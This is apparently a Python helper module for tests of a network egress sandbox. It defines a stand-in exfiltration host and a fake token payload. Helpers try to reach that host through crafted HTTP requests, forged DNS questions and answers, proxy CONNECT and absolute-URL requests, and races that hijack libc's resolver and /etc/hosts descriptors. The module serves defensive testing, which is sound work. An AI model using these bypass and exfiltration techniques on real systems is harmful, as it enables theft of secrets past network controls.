"""The names that roads written in Python may use. Runs on Python 3.9 or newer.

`SECONDS` is how long a road that must win a race keeps trying.
"""
# ruff: noqa: F401, PTH116 - the roads use what is imported, on Python 3.9 too

import array
import contextlib
import ctypes
import fcntl
import os
import select
import signal
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

from tests import hellos
from tests.egress import places

SECONDS = float(os.environ.get("ROAD_SECONDS", "20"))
signal.alarm(int(SECONDS) + 25)

API, PLAIN, THIEF = places.API, places.PLAIN, f"token.{places.THIEF}"
WRONG, RESOLVER = places.WRONG, places.RESOLVER
PROXY = (places.PROXY_NAME, places.PROXY_PORT)
GOOD, BAD = hellos.openssl(API), hellos.openssl(THIEF)
RAW = b"token: all that there is to take"
libc = ctypes.CDLL(None, use_errno=True)


def dial(host=API, port=443):
    return socket.create_connection((host, port), 5)


def check(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def in_child(act):
    pid = os.fork()
    if pid == 0:
        try:
            act()
        except OSError as error:
            print(type(error).__name__, flush=True)
        os._exit(0)
    os.waitpid(pid, 0)


def request(host, *lines, path="/token"):
    head = ("GET " + path + " HTTP/1.1", "Host: " + host, *lines, "", "")
    return "\r\n".join(head).encode()


def question(name=THIEF, flags=b"\1\0", kind=1):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return b"\x12\x34" + flags + b"\0\1\0\0\0\0\0\0" + labels + b"\0\0" + bytes([kind]) + b"\0\1"


def answer_to(asked, address):
    """A DNS answer to the question `asked` that gives `address`."""
    end = asked.index(b"\0", 12) + 5
    plain = asked[end - 4 : end - 2] == b"\0\1"
    record = b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + socket.inet_aton(address)
    head = asked[:2] + b"\x81\x80\0\1\0" + bytes([plain]) + bytes(4)
    return head + asked[12:end] + (record if plain else b"")


# ---- a server of the road's own, at an allowed name ----


class Kept:
    """A connection to a server in this process, at an allowed name, on port 80 unless `port` says
    otherwise."""

    host = PROXY[0]

    def __init__(self, port=80):
        self.heard = bytearray()
        self._peers = []
        listener = socket.create_server((socket.gethostbyname(self.host), port))
        self._thread = threading.Thread(target=self._hear, args=(listener,), daemon=True)
        self._thread.start()
        self.socket = dial(self.host, port)

    def _hear(self, listener):
        peer = listener.accept()[0]
        self._peers.append(peer)
        with contextlib.suppress(OSError):
            while more := peer.recv(65536):
                self.heard.extend(more)

    def peer(self):
        """The server's end of the connection."""
        while not self._peers:
            time.sleep(0.01)
        return self._peers[0]

    def say(self, *pieces):
        for piece in pieces:
            self.socket.sendall(piece)

    def end(self):
        """Print whether the server received the forbidden name."""
        self.socket.close()
        self._thread.join(5)
        print("HEARD" if THIEF.encode() in self.heard else "not heard", flush=True)


@contextlib.contextmanager
def kept(port=80):
    one = Kept(port)
    try:
        yield one
    except PermissionError:
        print("refused", flush=True)
    one.end()


def post(*lines, host=PROXY[0]):
    return "\r\n".join(("POST /a HTTP/1.1", "Host: " + host, *lines, "", "")).encode()


# ---- a proxy ----


def ask(to, target, *lines):
    head = (f"CONNECT {target} HTTP/1.1", "Host: " + target, *lines, "", "")
    to.send("\r\n".join(head).encode())


def answer(of):
    heard = b""
    while b"\r\n\r\n" not in heard and (more := of.recv(4096)):
        heard += more
    head, _, body = heard.partition(b"\r\n\r\n")
    while b"Content-Length: 60" in head and len(body) < 60 and (more := of.recv(4096)):
        body += more
    return head[9:12]


def evil(to):
    to.send(request(THIEF, path="http://" + THIEF + "/"))
    return answer(to)


NO = "X-Answer: 403"
PLAIN80, RANGE, NONE = PLAIN + ":80", "10.77.0.9:9000", PROXY[0] + ":7777"


# ---- races with lookups ----


def peer_of(fd):
    same = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, fileno=fd)
    try:
        return same.getpeername()
    finally:
        same.detach()


def is_asking(fd):
    """Whether `fd` is a socket that is connected to the name server."""
    return peer_of(fd) == (RESOLVER, 53)


HOSTS = os.stat("/etc/hosts")


def is_hosts(fd):
    return os.path.samestat(os.fstat(fd), HOSTS)


def arrives(address=None):
    """Whether the request for the allowed name was answered by another server."""
    with contextlib.suppress(OSError), socket.create_connection((address or WRONG, 443), 5) as out:
        out.sendall(GOOD)
        return bool(out.recv(1)) or True
    return False


def beside(wanted, act, look=None, times=1, stays=False):
    """Race `act(fd)` against two threads that look up an allowed name, for each of libc's own fds
    that is `wanted`. Prints "done" once `act` has succeeded `times` times. With `stays`, a success
    counts only if the fd referred to the same file before and after.
    """
    over = threading.Event()

    def work():
        while not over.is_set():
            with contextlib.suppress(OSError):
                look() if look else socket.getaddrinfo(API, 443)

    sys.setswitchinterval(0.0001)
    first = os.dup(0)
    os.close(first)
    looking = [threading.Thread(target=work, daemon=True) for _ in range(2)]
    for thread in looking:
        thread.start()
    done, end = 0, time.monotonic() + SECONDS
    while done < times and time.monotonic() < end:
        for fd in range(first, first + 4):
            with contextlib.suppress(OSError):
                before = os.fstat(fd).st_ino
                if wanted(fd) and act(fd) and (not stays or os.fstat(fd).st_ino == before):
                    done += 1
    over.set()
    for thread in looking:
        thread.join(5)
    print("done" if done >= times else "not done", flush=True)
    os._exit(0)


def fds(act):
    """Call `act` with a socket object for an fd that belongs to libc."""

    def call(fd):
        same = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, fileno=fd)
        try:
            return act(same)
        finally:
            same.detach()

    return call
